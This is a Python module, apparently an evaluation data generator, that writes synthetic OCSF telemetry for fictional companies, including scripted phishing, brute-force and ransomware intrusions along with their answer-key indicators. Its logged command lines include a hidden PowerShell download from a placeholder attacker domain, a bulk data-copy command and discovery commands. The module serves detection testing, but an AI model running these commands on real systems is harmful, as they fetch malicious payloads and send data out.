"""Tenants as OCSF events that name their tenant: working days, software, and intrusions."""

from __future__ import annotations

import json
from collections.abc import Mapping
from datetime import datetime, timedelta
from hashlib import sha256
from random import Random
from typing import Any

from schemas.campaign_truth import CampaignSpec
from schemas.tenant_slice import IndicatorKind
from sentree.evals.generate.campaign_plan import Arsenal

_SYSTEM = "C:\\Windows\\System32\\"
_EVERYWHERE = (
    ("settings-win.data.microsoft.com", "20.190.159.4"),
    ("ctldl.windowsupdate.com", "23.50.131.7"),
    ("www.google.com", "142.250.74.36"),
    ("ocsp.digicert.com", "192.229.221.95"),
    ("cdn.jsdelivr.net", "151.101.1.229"),
    ("slack.com", "3.125.80.9"),
)
_PROGRAMS = ("svchost.exe", "taskhostw.exe", "cmd.exe", "conhost.exe", "wmiprvse.exe", "net.exe")
_VENDORS = tuple(f"vendor{n}" for n in range(40))
_AGENT = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/131.0 Safari/537.36"
_GIVEN = ("ada", "bo", "cy", "dee", "eli", "fay", "gil", "hal", "ivy", "jo", "kit", "lou", "max")


class Company:
    """A tenant's machines, people and software; no two tenants have a name in common."""

    def __init__(self, rng: Random, tenant: str) -> None:
        self.rng = rng
        self.tenant = tenant
        short = "".join(part[:3] for part in tenant.split("-")).upper()
        self.domain = f"{tenant}.example"
        net = rng.randrange(16, 240)
        self.hosts = [
            (
                f"{short}-{'SRV' if n < 3 else 'PC'}{rng.randrange(100, 999)}{n}",
                f"10.{net}.0.{n + 10}",
            )
            for n in range(12)
        ]
        self.people = [
            f"{name}.{short.lower()}{rng.randrange(99)}" for name in rng.sample(_GIVEN, 8)
        ]
        self.vendors = rng.sample(_VENDORS, 14)


class OcsfWriter:
    """Collects one tenant's events as lines with their times."""

    def __init__(self, company: Company, findings: bool) -> None:
        self.company = company
        self.rng = company.rng
        self.findings = findings
        self.rows: list[tuple[int, str]] = []
        self.neutral: set[str] = set()

    def add(
        self, time: datetime, class_uid: int, activity: int, host: int | None, **fields: Any
    ) -> None:
        """Add an event of a class, seen on one of the company's machines."""
        at = round(time.timestamp() * 1000)
        event: dict[str, Any] = {
            "time": at,
            "class_uid": class_uid,
            "category_uid": class_uid // 1000,
            "activity_id": activity,
            "type_uid": class_uid * 100 + activity,
            "severity_id": 1,
            "metadata": {
                "version": "1.3.0",
                "product": {"name": "Sensor", "vendor_name": "Example"},
                "tenant_uid": self.company.tenant,
            },
        }
        if host is not None:
            name, ip = self.company.hosts[host]
            event["device"] = {"hostname": f"{name}.{self.company.domain}", "ip": ip, "type_id": 2}
        self.rows.append((at, json.dumps({**event, **fields})))

    def dns(self, time: datetime, host: int, name: str, answer: str) -> None:
        """Add a name lookup."""
        self.add(
            time, 4003, 2, host, query={"hostname": name, "type": "A"},
            answers=[{"rdata": answer, "type": "A"}],
            src_endpoint={"ip": self.company.hosts[host][1]}, rcode_id=0,
        )  # fmt: skip

    def connection(self, time: datetime, host: int, name: str, ip: str, sent: int = 2000) -> None:
        """Add a network connection to outside."""
        self.add(
            time, 4001, 6, host, src_endpoint={"ip": self.company.hosts[host][1], "port": 50123},
            dst_endpoint={"ip": ip, "port": 443, "hostname": name},
            connection_info={"direction_id": 2}, traffic={"bytes_out": sent},
        )  # fmt: skip

    def http(self, time: datetime, host: int, name: str, ip: str, path: str, agent: str) -> None:
        """Add a web request."""
        url = {"url_string": f"http://{name}{path}", "hostname": name, "path": path}
        self.add(
            time, 4002, 3, host,
            http_request={"url": url, "user_agent": agent, "http_method": "GET"},
            src_endpoint={"ip": self.company.hosts[host][1]}, dst_endpoint={"ip": ip},
        )  # fmt: skip

    def process(
        self, time: datetime, host: int, parent: str, path: str, line: str, digest: str = ""
    ) -> None:
        """Add the start of a process."""
        name = path.rpartition("\\")[2]
        file = _file(path, digest or _digest(name))
        above = {"name": parent.rpartition("\\")[2], "path": parent, "type_id": 1}
        self.add(
            time, 1007, 1, host,
            process={"name": name, "cmd_line": line, "pid": 4242, "file": file},
            actor={
                "process": {"name": above["name"], "file": above},
                "user": {"name": self.person(host)},
            },
        )  # fmt: skip

    def file(self, time: datetime, host: int, path: str, digest: str) -> None:
        """Add the creation of a file."""
        file = _file(path, digest)
        user = {"name": self.person(host)}
        self.add(time, 1001, 1, host, file=file, actor={"user": user})

    def finding(
        self, time: datetime, host: int, title: str, technique: str, severity: int, **more: Any
    ) -> None:
        """Add what a product found, if the company has one."""
        if not self.findings:
            return
        attack = {"technique": {"uid": technique}, "version": "16.0"}
        info = {"title": title, "uid": f"{self.rng.getrandbits(64):x}", "attacks": [attack]}
        self.add(time, 2004, 1, host, finding_info=info, **{**more, "severity_id": severity})

    def person(self, host: int) -> str:
        """Name who sits at a machine."""
        return self.company.people[host % len(self.company.people)]


def background(writer: OcsfWriter, spec: CampaignSpec, start: datetime) -> None:
    """Add the benign events of a tenant."""
    rng, company = writer.rng, writer.company
    for _ in range(spec.events):
        time = start + timedelta(days=spec.days) * rng.random()
        host = rng.randrange(len(company.hosts))
        chance = rng.random()
        if chance < 0.3:
            name, ip = rng.choice(_EVERYWHERE)
            writer.dns(time, host, name, ip)
        elif chance < 0.6:
            vendor = rng.choice(company.vendors)
            name, ip = f"app.{vendor}.example", f"192.0.2.{_VENDORS.index(vendor) + 10}"
            writer.dns(time, host, name, ip)
            writer.connection(time + timedelta(seconds=1), host, name, ip)
        elif chance < 0.65:
            vendor = rng.choice(company.vendors)
            name, ip = f"app.{vendor}.example", f"192.0.2.{_VENDORS.index(vendor) + 10}"
            writer.http(time, host, name, ip, f"/v/{rng.randrange(50)}", _AGENT)
        elif chance < 0.85:
            image = _SYSTEM + rng.choice(_PROGRAMS)
            writer.process(
                time, host, _SYSTEM + "services.exe", image, f"{image} -k {rng.randrange(9)}"
            )
        elif chance < 0.93:
            vendor = rng.choice(company.vendors)
            path = f"C:\\Users\\{writer.person(host)}\\AppData\\Local\\{vendor}\\{vendor}.exe"
            writer.process(time, host, "C:\\Windows\\explorer.exe", path, f'"{path}"')
        elif chance < 0.995:
            user = {"name": writer.person(host), "type_id": 1}
            source = {"ip": rng.choice(company.hosts)[1]}
            writer.add(time, 3002, 1, host, user=user, src_endpoint=source, status_id=1)
        else:
            title, technique = rng.choice(
                (("Administrative tool used", "T1033"), ("Rare parent process", "T1204.002"))
            )
            writer.finding(time, host, title, technique, 2)


def rollout(writer: OcsfWriter, moment: datetime) -> None:
    """Add new benign software that several tenants get in the same days."""
    digest = _digest("fieldnotes-setup")
    for host in range(len(writer.company.hosts)):
        time = moment + timedelta(minutes=writer.rng.randrange(600))
        path = f"C:\\Users\\{writer.person(host)}\\Downloads\\fieldnotes-setup.exe"
        writer.dns(time, host, "download.fieldnotes.example", "192.0.2.200")
        writer.connection(
            time + timedelta(seconds=2), host, "download.fieldnotes.example", "192.0.2.200"
        )
        writer.file(time + timedelta(seconds=9), host, path, digest)
        writer.process(
            time + timedelta(seconds=30), host, "C:\\Windows\\explorer.exe", path, path, digest
        )


def intrusion(
    writer: OcsfWriter, kit: Arsenal, start: datetime, story: str
) -> list[tuple[IndicatorKind, str]]:
    """Add an attack and give the values it leaves that an analyst should find."""
    return _phishing(writer, kit, start) if story == "phishing" else _remote(writer, kit, start)


def _phishing(writer: OcsfWriter, kit: Arsenal, start: datetime) -> list[tuple[IndicatorKind, str]]:
    rng, company = writer.rng, writer.company
    host, server = rng.randrange(3, len(company.hosts)), rng.randrange(3)
    user = writer.person(host)
    time = start
    url = f"http://{kit.domain}{kit.url_path}"
    office = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
    shell = _SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe"
    payload = f"C:\\Users\\{user}\\AppData\\Roaming\\{kit.payload}"
    mail = {"from": kit.sender, "to": [f"{user}@{company.domain}"], "subject": f"Your {kit.lure}"}
    writer.add(time, 4009, 1, None, email=mail, direction_id=1)
    time += timedelta(minutes=rng.randrange(5, 40))
    lure = f"C:\\Users\\{user}\\Downloads\\{kit.lure}"
    writer.file(time, host, lure, kit.lure_hash)
    time += timedelta(seconds=rng.randrange(20, 60))
    writer.process(
        time, host, office, shell, f"powershell -nop -w hidden -c iwr {url} -OutFile {payload}"
    )
    writer.finding(
        time + timedelta(seconds=2), host, "Office program starts an interpreter", "T1059.001", 4,
        process={"cmd_line": f"powershell iwr {url}", "name": "powershell.exe"},
    )  # fmt: skip
    time += timedelta(seconds=2)
    writer.dns(time, host, kit.domain, kit.address)
    writer.http(time, host, kit.domain, kit.address, kit.url_path, kit.agent)
    writer.file(time + timedelta(seconds=3), host, payload, kit.payload_hash)
    writer.finding(time + timedelta(seconds=4), host, "Program downloaded", "T1105", 3)
    time += timedelta(seconds=20)
    writer.process(time, host, shell, payload, payload, kit.payload_hash)
    for n in range(30):
        writer.connection(time + timedelta(minutes=20 * n), host, kit.domain, kit.address)
    writer.finding(
        time + timedelta(minutes=1), host, "Beacon to a rare server", "T1071.001", 3,
        evidences=[{"dst_endpoint": {"ip": kit.address, "hostname": kit.domain}}],
    )  # fmt: skip
    time += timedelta(minutes=rng.randrange(30, 60))
    for line, technique in (("whoami /all", "T1033"), ("nltest /domain_trusts", "T1482")):
        writer.process(time, host, payload, _SYSTEM + line.split()[0] + ".exe", line)
        writer.finding(time + timedelta(seconds=1), host, f"Discovery: {line}", technique, 3)
        time += timedelta(seconds=rng.randrange(20, 90))
    time += timedelta(hours=rng.randrange(1, 4))
    remote = f"C:\\Windows\\Temp\\{kit.payload}"
    writer.add(
        time, 3002, 1, server, user={"name": company.people[0], "type_id": 1}, status_id=1,
        src_endpoint={"ip": company.hosts[host][1]}, logon_type_id=3,
    )  # fmt: skip
    writer.file(time + timedelta(seconds=5), server, remote, kit.payload_hash)
    writer.add(
        time + timedelta(seconds=9), 1007, 1, server,
        process={
            "name": kit.payload,
            "cmd_line": f"{remote} --service {kit.service}",
            "pid": 7,
            "file": _file(remote, kit.payload_hash),
        },
        actor={"process": {"name": "services.exe"}, "user": {"name": "SYSTEM"}},
    )  # fmt: skip
    writer.finding(
        time + timedelta(seconds=12), server, "New service from a temp folder", "T1569.002", 4
    )
    time += timedelta(hours=rng.randrange(1, 4))
    tool = f"C:\\ProgramData\\{kit.tool[0]}"
    writer.process(time, server, remote, tool, f"{tool} copy D:\\Data remote:", kit.tool[1])
    writer.dns(time + timedelta(seconds=2), server, kit.drop_domain, kit.drop_address)
    writer.connection(
        time + timedelta(seconds=3), server, kit.drop_domain, kit.drop_address, 900_000_000
    )
    writer.finding(time + timedelta(seconds=30), server, "Large upload", "T1567.002", 4)
    time += timedelta(minutes=rng.randrange(20, 60))
    account = str(rng.randrange(10**11, 10**12))
    writer.add(
        time, 6003, 1, None, api={"operation": "CreateAccessKey", "service": {"name": "iam"}},
        actor={"user": {"name": company.people[1], "credential_uid": kit.cloud_key}},
        src_endpoint={"ip": kit.cloud_address},
        cloud={"provider": "AWS", "account": {"uid": account}},
        http_request={"user_agent": "aws-cli/2.9"},
    )  # fmt: skip
    if writer.findings:
        attack = [{"technique": {"uid": "T1098.001"}}]
        info = {
            "title": "Key made from a new address",
            "uid": f"{rng.getrandbits(64):x}",
            "attacks": attack,
        }
        writer.add(
            time + timedelta(seconds=5), 2004, 1, None, finding_info=info, severity_id=4,
            evidences=[{"src_endpoint": {"ip": kit.cloud_address}}],
        )  # fmt: skip
    writer.neutral |= {
        *kit.tool, kit.agent, kit.service, "aws-cli/2.9", kit.sender.partition("@")[2],
        f"powershell iwr {url}",
    }  # fmt: skip
    return [
        ("email", kit.sender), ("hash", kit.lure_hash), ("file", kit.lure), ("domain", kit.domain),
        ("ip", kit.address), ("url", url), ("hash", kit.payload_hash), ("file", kit.payload),
        ("domain", kit.drop_domain), ("ip", kit.drop_address), ("ip", kit.cloud_address),
        ("key", kit.cloud_key),
    ]  # fmt: skip


def _remote(writer: OcsfWriter, kit: Arsenal, start: datetime) -> list[tuple[IndicatorKind, str]]:
    rng = writer.rng
    server, time = rng.randrange(3), start
    source: Mapping[str, str] = {"ip": kit.cloud_address}
    for n in range(25):
        user = {"name": "administrator", "type_id": 1}
        writer.add(
            time + timedelta(seconds=3 * n),
            3002,
            1,
            server,
            user=user,
            src_endpoint=source,
            status_id=2 if n < 24 else 1,
        )
    writer.finding(
        time + timedelta(seconds=80), server, "Password guessing", "T1110.001", 4,
        evidences=[{"src_endpoint": dict(source)}],
    )  # fmt: skip
    time += timedelta(minutes=20)
    tool = f"C:\\Users\\Public\\{kit.tool[0]}"
    writer.process(time, server, _SYSTEM + "cmd.exe", tool, tool, kit.tool[1])
    writer.finding(time + timedelta(seconds=3), server, "Hacking tool", "T1588.002", 4)
    time += timedelta(minutes=20)
    writer.connection(time, server, kit.drop_domain, kit.drop_address, 5_000_000)
    writer.finding(time + timedelta(seconds=3), server, "Large upload", "T1048", 3)
    locker = f"C:\\Users\\Public\\{kit.payload}"
    writer.process(
        time + timedelta(minutes=9), server, _SYSTEM + "cmd.exe", locker, locker, kit.payload_hash
    )
    writer.finding(time + timedelta(minutes=10), server, "Files are encrypted", "T1486", 5)
    return []


def _file(path: str, digest: str) -> dict[str, Any]:
    name = path.rpartition("\\")[2]
    hashes = [{"algorithm_id": 3, "value": digest}]
    return {"name": name, "path": path, "type_id": 1, "hashes": hashes}


def _digest(name: str) -> str:
    return sha256(name.encode()).hexdigest()
